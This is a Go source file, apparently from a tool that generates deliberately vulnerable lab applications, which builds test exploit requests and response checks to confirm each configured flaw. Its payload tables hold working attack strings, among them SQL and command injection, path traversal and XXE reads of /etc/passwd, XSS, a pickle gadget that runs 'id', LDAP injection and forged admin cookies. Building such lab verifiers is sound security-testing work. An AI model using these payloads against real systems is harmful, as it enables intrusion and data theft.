@@ -0,0 +1,787 @@
+package config
+
+import (
+	"encoding/base64"
+	"fmt"
+	"maps"
+	"net/http"
+	"net/url"
+	"path"
+	"regexp"
+	"slices"
+	"strings"
+	"time"
+)
+
+// How the responses to an exploit's two payloads must differ
+const (
+	CompareDiffer  = "differ"  // In status or body
+	CompareRecords = "records" // Both found, with different bodies
+)
+
+// Exploit is a canonical exploit of a vulnerability: requests carrying a
+// payload tailored to its config, and what the responses show when it
+// worked, such as the "exploitable": true its module reports, the lab's
+// /etc/passwd or a different response to a true and a false condition
+type Exploit struct {
+	Group string // The endpoint, as in ExampleRequest
+	Name  string // The vulnerability, as in ExampleRequest
+	Vuln  VulnerabilityConfig
+
+	Payloads    []string         // One request each; an empty payload leaves the sample values
+	Requests    []ExampleRequest // The requests for the payloads, with the credentials of protected endpoints
+	Header      [][2]string      // Sent with each request, such as the identity an access check wants
+	Login       *ExampleRequest  // Sent first, for the session cookie or bearer token the requests need
+	BearerLogin bool             // The login returns a token to send as a bearer token
+
+	Matchers []ResponseMatcher // Checks on the last response, any of which must hold
+	MatchAll bool              // All of the matchers must hold
+	Compare  string            // How the responses to two payloads must differ, if they must
+	Delay    time.Duration     // How long the last response must take at least
+}
+
+// ResponseMatcher is a check on a response's body, or on its header when Part
+// is header
+type ResponseMatcher struct {
+	Part     string
+	Words    []string
+	Regex    []string
+	Negative bool // The response must not match
+}
+
+// ExploitResponse is what an exploit's request got back
+type ExploitResponse struct {
+	StatusCode int
+	Header     http.Header
+	Body       string
+	Duration   time.Duration
+}
+
+// SkippedExploit is a vulnerability Exploits leaves out, and why
+type SkippedExploit struct {
+	Group  string
+	Name   string
+	Vuln   VulnerabilityConfig
+	Reason string
+}
+
+// Exploits returns the canonical exploit of each vulnerability of an app's
+// endpoints. Vulnerabilities whose config can't be shown with requests alone,
+// those active only at times or for some requests, later steps of chains, and
+// WebSocket and gRPC endpoints are left out, as SkippedExploits reports.
+func Exploits(cfg *Config) []Exploit {
+	exploits, _ := planExploits(cfg)
+	return exploits
+}
+
+// SkippedExploits returns the vulnerabilities Exploits leaves out, with why
+func SkippedExploits(cfg *Config) []SkippedExploit {
+	_, skipped := planExploits(cfg)
+	return skipped
+}
+
+// planExploits builds the exploits of an app's vulnerabilities, and lists
+// those it can't build
+func planExploits(cfg *Config) ([]Exploit, []SkippedExploit) {
+	var exploits []Exploit
+	var skipped []SkippedExploit
+	for _, endpoint := range cfg.Endpoints {
+		source := endpoint
+		if endpoint.Type == "alias" {
+			if target, ok := endpoint.AliasTarget(cfg.Endpoints); ok {
+				source = target
+			}
+		}
+		reason := ""
+		switch {
+		case endpoint.Type == "grpc":
+			reason = "a gRPC method, which takes no HTTP requests"
+		case source.WebSocket:
+			reason = "a WebSocket, whose payloads go in messages"
+		default:
+			continue
+		}
+		group := strings.ToUpper(endpoint.Method) + " " + endpoint.Host + endpoint.Path
+		for _, vuln := range source.Vulnerabilities {
+			skipped = append(skipped, SkippedExploit{group, vulnName(vuln), vuln, reason})
+		}
+	}
+
+	for _, e := range exampleEndpoints(cfg) {
+		for _, vuln := range e.source.Vulnerabilities {
+			skip := func(reason string) {
+				skipped = append(skipped, SkippedExploit{e.group, vulnName(vuln), vuln, reason})
+			}
+			if chainLocked(cfg, e.source) {
+				skip("a later step of a chain, locked until the steps before it are exploited")
+				continue
+			}
+			build, ok := exploitChecks[vuln.Type]
+			if !ok {
+				skip("no canonical exploit for " + vuln.Type)
+				continue
+			}
+			if vuln.EnabledIf != nil && (vuln.EnabledIf.Percent > 0 || vuln.EnabledIf.Time != "") {
+				skip("enabled only for some requests or at some times")
+				continue
+			}
+			x, ok := build(cfg, e.endpoint, vuln)
+			if !ok {
+				skip("its config leaves nothing a request can show")
+				continue
+			}
+			x.Group, x.Name, x.Vuln = e.group, vulnName(vuln), vuln
+
+			var credentials [][2]string
+			if e.protected {
+				hasToken := len(cfg.Auth.Users) > 0 && cfg.Auth.Users[0].Token != ""
+				switch {
+				case cfg.Auth.Type == "session", cfg.Auth.Type == "bearer" && !hasToken:
+					login := loginRequest(cfg.Auth)
+					x.Login, x.BearerLogin = &login, cfg.Auth.Type == "bearer"
+				default:
+					credentials = [][2]string{credentialHeader(cfg.Auth)}
+				}
+			}
+			for _, payload := range x.Payloads {
+				req := e.request(x.Name, nil, "")
+				if payload != "" {
+					req = e.request(x.Name, &vuln, payload)
+				}
+				if vuln.EnabledIf != nil {
+					req = meetConditions(req, vuln.EnabledIf)
+				}
+				req.Header = append(req.Header, x.Header...)
+				req.Header = append(req.Header, credentials...)
+				x.Requests = append(x.Requests, req)
+			}
+			exploits = append(exploits, x)
+		}
+	}
+	return exploits, skipped
+}
+
+// Matches reports whether the responses to an exploit's requests, in order,
+// show it worked
+func (x Exploit) Matches(responses []ExploitResponse) bool {
+	if len(responses) == 0 {
+		return false
+	}
+	last := responses[len(responses)-1]
+
+	if len(x.Matchers) > 0 {
+		matched := 0
+		for _, m := range x.Matchers {
+			if m.matches(last) {
+				matched++
+			}
+		}
+		if matched == 0 || x.MatchAll && matched < len(x.Matchers) {
+			return false
+		}
+	}
+
+	switch x.Compare {
+	case CompareDiffer:
+		if len(responses) < 2 || responses[0].StatusCode == responses[1].StatusCode && responses[0].Body == responses[1].Body {
+			return false
+		}
+	case CompareRecords:
+		if len(responses) < 2 || responses[0].StatusCode != http.StatusOK || responses[1].StatusCode != http.StatusOK || responses[0].Body == responses[1].Body {
+			return false
+		}
+	}
+	return last.Duration >= x.Delay
+}
+
+// matches reports whether a response passes the check
+func (m ResponseMatcher) matches(resp ExploitResponse) bool {
+	text := resp.Body
+	if m.Part == "header" {
+		var header strings.Builder
+		for name, values := range resp.Header {
+			for _, value := range values {
+				fmt.Fprintf(&header, "%s: %s\n", name, value)
+			}
+		}
+		text = header.String()
+	}
+
+	found := false
+	for _, word := range m.Words {
+		found = found || strings.Contains(text, word)
+	}
+	for _, pattern := range m.Regex {
+		re, err := regexp.Compile(pattern)
+		found = found || err == nil && re.MatchString(text)
+	}
+	return found != m.Negative
+}
+
+// exploitChecks build the exploit of a vulnerability from its config,
+// reporting false when its config leaves nothing a request can detect
+var exploitChecks = map[string]func(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool){
+	"sql_injection":            sqlInjectionCheck,
+	"command_injection":        commandInjectionCheck,
+	"ssrf":                     ssrfCheck,
+	"path_traversal":           pathTraversalCheck,
+	"ssti":                     sstiCheck,
+	"xss_reflected":            xssCheck,
+	"xxe":                      xxeCheck,
+	"insecure_deserialization": deserializationCheck,
+	"nosql_injection":          nosqlCheck,
+	"idor":                     idorCheck,
+	"ldap_injection":           ldapCheck,
+	"account_enumeration":      accountEnumerationCheck,
+	"excessive_data_exposure":  excessiveDataCheck,
+	"bfla":                     bflaCheck,
+	"method_override":          methodOverrideCheck,
+	"insecure_cookies":         insecureCookiesCheck,
+	"vhost_takeover":           vhostTakeoverCheck,
+	"business_logic":           businessLogicCheck,
+}
+
+// chainLocked reports whether an endpoint is a step of a chain after the
+// first, locked until the steps before it are exploited
+func chainLocked(cfg *Config, endpoint EndpointConfig) bool {
+	for _, chain := range cfg.Chains {
+		for _, step := range chain.Steps[min(1, len(chain.Steps)):] {
+			if step.Targets(endpoint) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// meetConditions adds the header, cookie and query parameter a
+// vulnerability's conditions require to a request
+func meetConditions(req ExampleRequest, cond *ConditionConfig) ExampleRequest {
+	req.Header = slices.Clone(req.Header)
+	if cond.Header != "" {
+		name, value, ok := strings.Cut(cond.Header, "=")
+		if !ok {
+			value = "1"
+		}
+		req.Header = append(req.Header, [2]string{name, value})
+	}
+	if cond.Cookie != "" {
+		name, value, ok := strings.Cut(cond.Cookie, "=")
+		if !ok {
+			value = "1"
+		}
+		req.Header = append(req.Header, [2]string{"Cookie", name + "=" + value})
+	}
+	if cond.Query != "" {
+		name, value, ok := strings.Cut(cond.Query, "=")
+		if !ok {
+			value = "1"
+		}
+		separator := "?"
+		if strings.Contains(req.Path, "?") {
+			separator = "&"
+		}
+		req.Path += separator + url.QueryEscape(name) + "=" + url.QueryEscape(value)
+	}
+	return req
+}
+
+// wordMatcher returns a matcher for words in the body
+func wordMatcher(words ...string) ResponseMatcher {
+	return ResponseMatcher{Words: words}
+}
+
+// regexMatcher returns a matcher for patterns in the body
+func regexMatcher(patterns ...string) ResponseMatcher {
+	return ResponseMatcher{Regex: patterns}
+}
+
+// differentialCheck compares the responses to two payloads, which differ when
+// the input changes what the application does
+func differentialCheck(first, second string) Exploit {
+	return Exploit{Payloads: []string{first, second}, Compare: CompareDiffer}
+}
+
+// configString returns a vulnerability's config value as a string
+func configString(vuln VulnerabilityConfig, key, fallback string) string {
+	if value, ok := vuln.Config[key]; ok && value != nil {
+		return fmt.Sprint(value)
+	}
+	return fallback
+}
+
+// passwdPattern matches the lab's /etc/passwd
+const passwdPattern = `root:x?:0:0:`
+
+// sqlInjectionCheck breaks the query's quoting when errors are shown, else
+// compares a true and a false condition in the quoting the template uses
+func sqlInjectionCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "variant", "error_based") == "error_based" && configString(vuln, "show_errors", "true") == "true" {
+		return Exploit{
+			Payloads: []string{`'"`},
+			Matchers: []ResponseMatcher{regexMatcher(`(?i)SQL logic error|syntax error|unrecognized token|unterminated`)},
+		}, true
+	}
+
+	template := configString(vuln, "query_template", "")
+	switch {
+	case strings.Contains(template, "'{input}'"):
+		return differentialCheck(`x' OR '1'='1`, `x' AND '1'='2`), true
+	case strings.Contains(template, `"{input}"`):
+		return differentialCheck(`x" OR "1"="1`, `x" AND "1"="2`), true
+	}
+	return differentialCheck("1 OR 1=1", "1 AND 1=2"), true
+}
+
+// commandSeparators chain a command past each filter
+var commandSeparators = map[string]string{
+	"none":            "; ",
+	"basic_pipe":      "; ",
+	"basic_semicolon": " | ",
+	"basic_both":      " & ",
+	"url_decode":      "%3B ",
+}
+
+// commandInjectionCheck runs id when the output is returned, else sleeps,
+// closing the quote the base command puts the input in and commenting out
+// what follows it
+func commandInjectionCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	separator, ok := commandSeparators[configString(vuln, "filter", "none")]
+	if !ok {
+		separator = "; "
+	}
+	base := configString(vuln, "base_command", "")
+	quote := ""
+	for _, q := range []string{"'", `"`} {
+		if strings.Contains(base, q+"{input}") || strings.Contains(base, "{input}"+q) {
+			quote = q
+		}
+	}
+	prefix := "127.0.0.1" + quote + separator
+	if base == "" {
+		prefix = ""
+	}
+
+	if configString(vuln, "variant", "direct") == "blind" {
+		return Exploit{
+			Payloads: []string{prefix + "sleep 5 #"},
+			Delay:    5 * time.Second,
+		}, true
+	}
+	return Exploit{
+		Payloads: []string{prefix + "id #"},
+		Matchers: []ResponseMatcher{regexMatcher(`uid=\d+\(`)},
+	}, true
+}
+
+// ssrfCheck has the lab fetch itself over loopback, past the host filter, or
+// embeds it in the HTML a PDF renderer fetches subresources of
+func ssrfCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	host := "127.0.0.1"
+	if configString(vuln, "filter", "none") == "basic_host" {
+		host = "[::ffff:7f00:1]"
+	}
+	payload := fmt.Sprintf("http://%s:%d/", host, cfg.App.Port)
+	if configString(vuln, "variant", "direct") == "url_preview" && configString(vuln, "renderer", "unfurl") == "pdf" {
+		payload = fmt.Sprintf(`<iframe src="%s"></iframe>`, payload)
+	}
+	return Exploit{
+		Payloads: []string{payload},
+		Matchers: []ResponseMatcher{wordMatcher("status_code"), wordMatcher("blocked")},
+		MatchAll: true,
+	}.negateLast(), true
+}
+
+// negateLast makes an exploit's last matcher one the response must not match
+func (x Exploit) negateLast() Exploit {
+	x.Matchers[len(x.Matchers)-1].Negative = true
+	return x
+}
+
+// pathTraversalCheck reads the lab's /etc/passwd, climbing out of the sink
+// root and base path with steps encoded for the decoding the application
+// does, or doubled past a filter stripping ../, and cutting off an appended
+// extension with a null byte where that works
+func pathTraversalCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	filter := configString(vuln, "filter", "none")
+	step := "../"
+	switch configString(vuln, "decode", "none") {
+	case "url":
+		step = "%2e%2e%2f"
+	case "double_url":
+		step = "%252e%252e%252f"
+	case "overlong_utf8":
+		step = "%c0%ae%c0%ae%c0%af"
+	default:
+		if filter == "strip_once" || filter == "basic_dots" {
+			step = "....//"
+		}
+	}
+
+	dirs := configString(vuln, "base_path", "")
+	if root, ok := vuln.SinkOptions["root"].(string); ok && vuln.Sink == "filesystem" {
+		dirs = root + "/" + dirs
+	}
+	depth := 0
+	for _, dir := range strings.Split(path.Clean("/"+dirs), "/") {
+		if dir != "" {
+			depth++
+		}
+	}
+	payload := strings.Repeat(step, depth) + "etc/passwd"
+	if configString(vuln, "append_extension", "") != "" {
+		if configString(vuln, "null_byte_truncation", "false") != "true" || filter == "null_byte" {
+			return Exploit{}, false
+		}
+		payload += "\x00"
+	}
+	return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{regexMatcher(passwdPattern)}}, true
+}
+
+// sstiPayloads evaluate 7*191 in each engine's syntax
+var sstiPayloads = map[string]string{
+	"jinja2":     "{{7*191}}",
+	"twig":       "{{7*191}}",
+	"freemarker": "${7*191}",
+	"erb":        "<%= 7*191 %>",
+	"go":         `{{print "13" "37"}}`,
+}
+
+// sstiCheck has the template engine compute 1337, unless the input is
+// passed to the template as data
+func sstiCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	payload, ok := sstiPayloads[configString(vuln, "engine", "jinja2")]
+	if !ok || configString(vuln, "escape_input", "false") == "true" {
+		return Exploit{}, false
+	}
+	return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{wordMatcher("1337")}}, true
+}
+
+// xssPayloads break out of each reflection context, the plainest first
+var xssPayloads = map[string][]string{
+	"body":      {"<img src=x onerror=alert(1337)>"},
+	"attribute": {`" autofocus onfocus=alert(1337) x="`},
+	"script":    {"</script><script>alert(1337)</script>", "</ScRiPt><ScRiPt>alert(1337)</ScRiPt>", "';alert(1337);//"},
+	"js_string": {"';alert(1337);//", "</script><script>alert(1337)</script>"},
+	"url":       {"javascript:alert(1337)", " javascript:alert(1337)"},
+	"css":       {"</style><script>alert(1337)</script>", "red;}*{background:url(//xss.invalid/1337)}"},
+}
+
+// xssSurvives reports whether a payload is reflected unchanged through an
+// encoding
+func xssSurvives(payload, encoding string) bool {
+	switch encoding {
+	case "incomplete_html", "css_strip_tags":
+		return !strings.ContainsAny(payload, "<>")
+	case "incomplete_js":
+		return !strings.Contains(payload, "'")
+	case "weak_encode":
+		return !strings.Contains(payload, "<script")
+	case "html_entities":
+		return !strings.ContainsAny(payload, `<>&'"`)
+	case "js_escape":
+		return !strings.ContainsAny(payload, "\\'\"\n")
+	case "url_scheme_filter":
+		return !strings.HasPrefix(strings.ToLower(payload), "javascript:") && !strings.Contains(payload, `"`)
+	}
+	return true
+}
+
+// xssCheck looks for a payload the encoding lets through reflected as it was
+// sent. Entity encoded quotes still break out of strings in event handlers,
+// which decode them first.
+func xssCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	context, encoding := configString(vuln, "context", "body"), configString(vuln, "encoding", "none")
+	if context == "js_string" && encoding == "html_entities" {
+		return Exploit{Payloads: []string{"';alert(1337);//"}, Matchers: []ResponseMatcher{wordMatcher("&#39;;alert(1337);//")}}, true
+	}
+	for _, payload := range xssPayloads[context] {
+		if xssSurvives(payload, encoding) {
+			return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{wordMatcher(payload)}}, true
+		}
+	}
+	return Exploit{}, false
+}
+
+// exploitableMatcher matches the "exploitable": true a module reports, or the
+// lab's /etc/passwd
+var exploitableMatcher = regexMatcher(`"exploitable":\s*true`, passwdPattern)
+
+// nosqlCheck chains a command after the key for Redis, past the CRLF a header
+// can't carry by sending it escaped, which the lab reads as a line break; for
+// MongoDB it sends the module's example operator
+func nosqlCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	payload := examplePayload(vuln)
+	if configString(vuln, "database", "mongodb") == "redis" {
+		payload = "x\r\nKEYS *"
+		if vuln.Placement == "header" {
+			payload = `x\r\nKEYS *`
+		}
+	}
+	if payload == "" {
+		return Exploit{}, false
+	}
+	return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{exploitableMatcher}}, true
+}
+
+// deserializationPayloads name a known gadget in each format, as text where
+// the format allows, so any placement carries them. The pickle, which needs
+// line breaks, is base64 encoded, as the lab decodes base64 input first.
+var deserializationPayloads = map[string]string{
+	"auto":          "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
+	"java":          "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
+	"php":           `a:1:{s:4:"exec";s:2:"id";}`,
+	"python_pickle": base64.StdEncoding.EncodeToString([]byte("cos\nsystem\n(S'id'\ntR.")),
+	"dotnet":        "System.Diagnostics.Process",
+}
+
+// deserializationCheck sends a gadget of the format the lab reads, past the
+// filters that don't catch it: naming an allowed class lets it through an
+// allowlist, which only looks for one in the input
+func deserializationCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	payload, ok := deserializationPayloads[configString(vuln, "format", "auto")]
+	if !ok {
+		return Exploit{}, false
+	}
+	switch configString(vuln, "filter", "none") {
+	case "allowlist":
+		allowed, _ := vuln.Config["allowed_classes"].([]interface{})
+		if len(allowed) == 0 {
+			return Exploit{}, false
+		}
+		payload += fmt.Sprint(allowed[0])
+	case "blocklist":
+		blocked, _ := vuln.Config["blocked_patterns"].([]interface{})
+		for _, pattern := range blocked {
+			if strings.Contains(payload, fmt.Sprint(pattern)) {
+				return Exploit{}, false
+			}
+		}
+	}
+	return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{exploitableMatcher}}, true
+}
+
+// xxePayloads read the lab's /etc/passwd past each filter: an entity, an
+// XInclude without a DOCTYPE, or an external DTD without an ENTITY
+var xxePayloads = map[string]string{
+	"none":          `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
+	"basic_doctype": `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>`,
+	"basic_entity":  `<!DOCTYPE r SYSTEM "http://127.0.0.1/x.dtd"><r>&x;</r>`,
+}
+
+// xxeCheck sends the payload the filter lets through and looks for the
+// "exploitable": true the module reports. Blocking every external reference
+// leaves nothing to find.
+func xxeCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	payload, ok := xxePayloads[configString(vuln, "filter", "none")]
+	if !ok {
+		return Exploit{}, false
+	}
+	return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{exploitableMatcher}}, true
+}
+
+// idorIdentities are the identities each weak access check wants, which it
+// doesn't compare with the record's owner
+var idorIdentities = map[string][2]string{
+	"weak_header":       {"X-User-ID", "1"},
+	"weak_cookie":       {"Cookie", "user_id=1"},
+	"predictable_token": {"Authorization", "Bearer user_1"},
+}
+
+// idorCheck requests two numeric IDs, which an IDOR answers with two records,
+// as whoever the access check wants. Checking ownership of the request's
+// operation leaves only the caller's own records.
+func idorCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "variant", "numeric") != "numeric" {
+		return Exploit{}, false
+	}
+	switch configString(vuln, "ownership", "none") {
+	case "enforced":
+		return Exploit{}, false
+	case "read_only":
+		if configString(vuln, "operation", "read") == "read" {
+			return Exploit{}, false
+		}
+	}
+	check := differentialCheck("1", "2")
+	check.Compare = CompareRecords
+	if identity, ok := idorIdentities[configString(vuln, "access_control", "none")]; ok {
+		check.Header = [][2]string{identity}
+	}
+	return check, true
+}
+
+// ldapCheck closes the filter with an always true (&), which the directory
+// reads up to, matching every entry or logging in as the first
+func ldapCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "escape_input", "false") == "true" {
+		return Exploit{}, false
+	}
+	if configString(vuln, "variant", "search") == "login" {
+		return Exploit{Payloads: []string{"*)(&))"}, Matchers: []ResponseMatcher{wordMatcher("Login successful")}}, true
+	}
+	return Exploit{Payloads: []string{"*)(&))"}, Matchers: []ResponseMatcher{regexMatcher(`"count":\s*([2-9]|\d{2,})`)}}, true
+}
+
+// lookupPattern matches the table and column a query looks the input up in
+var lookupPattern = regexp.MustCompile(`(?i)\bFROM\s+(\w+)\s+WHERE\s+(\w+)\s*=\s*['"]?\{input\}`)
+
+// likePattern matches a query matching its input with LIKE, which % fills
+var likePattern = regexp.MustCompile(`(?i)\bLIKE\s+['"]%?\{input\}`)
+
+// lookupValue returns the first seeded row's value in the column a query
+// template looks its input up in, or fallback
+func lookupValue(cfg *Config, template, fallback string) string {
+	m := lookupPattern.FindStringSubmatch(template)
+	if m == nil || cfg.Data == nil {
+		return fallback
+	}
+	if table, ok := cfg.Data.Tables[m[1]]; ok && len(table.Rows) > 0 {
+		if i := slices.Index(table.Columns, m[2]); i >= 0 && i < len(table.Rows[0]) {
+			return fmt.Sprint(table.Rows[0][i])
+		}
+	}
+	return fallback
+}
+
+// accountEnumerationCheck compares the responses for an existing username,
+// the first row of the table the query looks it up in, and a made up one
+func accountEnumerationCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	switch configString(vuln, "discrepancy", "message") {
+	case "none":
+		return Exploit{}, false
+	case "timing":
+		return Exploit{}, false // Too noisy to tell from two requests
+	}
+	username := lookupValue(cfg, configString(vuln, "query_template", ""), "admin")
+	return differentialCheck(username, "ff-no-such-user-7d41"), true
+}
+
+// excessiveDataCheck lists records, matching every one with a LIKE pattern or
+// the first seeded row, and looks for the sensitive fields the lab reports
+// exposing. Strict filtering exposes none.
+func excessiveDataCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "filter_level", "none") == "strict" {
+		return Exploit{}, false
+	}
+	template := configString(vuln, "query_template", "")
+	payload := "%"
+	if !likePattern.MatchString(template) {
+		payload = lookupValue(cfg, template, examplePayload(vuln))
+	}
+	return Exploit{
+		Payloads: []string{payload},
+		Matchers: []ResponseMatcher{regexMatcher(`"exposed_fields":\s*\[\s*"`)},
+	}, true
+}
+
+// bflaCheck calls the admin function past its check: claiming the admin role
+// with a header, or as is when it isn't guarded on this path. Paths under the
+// admin prefix need the admin token, which isn't a bypass.
+func bflaCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "function", "user") != "admin" {
+		return Exploit{}, false
+	}
+	payload := ""
+	switch configString(vuln, "auth_check", "none") {
+	case "strict":
+		return Exploit{}, false
+	case "url_prefix":
+		if strings.HasPrefix(endpoint.Path, configString(vuln, "admin_prefix", "/admin")) {
+			return Exploit{}, false
+		}
+	case "header_role":
+		payload = configString(vuln, "role_header", "X-Role") + ": " + configString(vuln, "admin_role", "admin")
+	}
+	return Exploit{Payloads: []string{payload}, Matchers: []ResponseMatcher{regexMatcher(`"function":\s*"admin"`)}}, true
+}
+
+// methodOverrideCheck smuggles a method the endpoint has an action for
+// through the first channel it honors, for a record the lookup finds, which
+// the lab reports the source of
+func methodOverrideCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	method := "DELETE"
+	if actions, ok := vuln.Config["actions"].(map[string]interface{}); ok && len(actions) > 0 {
+		method = strings.ToUpper(slices.Sorted(maps.Keys(actions))[0])
+	}
+	param := configString(vuln, "method_param", "_method")
+	id := lookupValue(cfg, configString(vuln, "query_template", ""), "1")
+
+	x := Exploit{Matchers: []ResponseMatcher{wordMatcher(`"override_source"`)}}
+	switch configString(vuln, "channel", "all") {
+	case "query_param":
+		if vuln.Placement != "query_param" {
+			return Exploit{}, false
+		}
+		x.Payloads = []string{fmt.Sprintf("?%s=%s&%s=%s", vuln.Param, url.QueryEscape(id), param, method)}
+	case "form_field":
+		if vuln.Placement != "form_field" {
+			return Exploit{}, false
+		}
+		x.Payloads = []string{fmt.Sprintf("%s=%s&%s=%s", vuln.Param, url.QueryEscape(id), param, method)}
+	default:
+		header := "X-HTTP-Method-Override"
+		if headers, ok := vuln.Config["headers"].([]interface{}); ok && len(headers) > 0 {
+			header = fmt.Sprint(headers[0])
+		}
+		x.Payloads = []string{id}
+		x.Header = [][2]string{{header, method}}
+	}
+	return x, true
+}
+
+// sessionValues are user 1's session cookie in each encoding
+var sessionValues = map[string]string{
+	"base64_id": "MQ==",
+	"plain_id":  "1",
+	"hex_id":    "31",
+}
+
+// insecureCookiesCheck forges an admin session where the session cookie is
+// verified, else looks for a session cookie issued without HttpOnly
+func insecureCookiesCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "mode", "issue") == "verify" {
+		if vuln.Placement != "cookie" {
+			return Exploit{}, false
+		}
+		value := sessionValues[configString(vuln, "session_value", "base64_id")]
+		return Exploit{
+			Payloads: []string{fmt.Sprintf("Cookie: %s=%s; %s=%s", vuln.Param, value, configString(vuln, "role_cookie", "role"), configString(vuln, "admin_role", "admin"))},
+			Matchers: []ResponseMatcher{regexMatcher(`"admin":\s*true`)},
+		}, true
+	}
+	if configString(vuln, "http_only", "false") == "true" {
+		return Exploit{}, false
+	}
+	return Exploit{
+		Payloads: []string{"admin"},
+		Matchers: []ResponseMatcher{
+			{Part: "header", Regex: []string{`(?i)set-cookie:`}},
+			{Part: "header", Regex: []string{`(?i)set-cookie:[^\n]*httponly`}, Negative: true},
+		},
+		MatchAll: true,
+	}, true
+}
+
+// vhostTakeoverCheck requests the virtual host and looks for the dangling
+// CNAME the lab reports, unless the host is still claimed
+func vhostTakeoverCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "provider", "") == "claimed" {
+		return Exploit{}, false
+	}
+	return Exploit{
+		Payloads: []string{""},
+		Matchers: []ResponseMatcher{{Part: "header", Regex: []string{`(?i)x-flawfactory-cname:`}}},
+	}, true
+}
+
+// businessLogicCheck sets the price of an item when the client's is trusted
+func businessLogicCheck(cfg *Config, endpoint EndpointConfig, vuln VulnerabilityConfig) (Exploit, bool) {
+	if configString(vuln, "action", "view_cart") != "add_item" || configString(vuln, "trust_client_price", "true") != "true" {
+		return Exploit{}, false
+	}
+	return Exploit{
+		Payloads: []string{fmt.Sprintf("%s=1&%s=0.01", vuln.Param, configString(vuln, "price_param", "price"))},
+		Matchers: []ResponseMatcher{wordMatcher("0.01")},
+	}, true
+}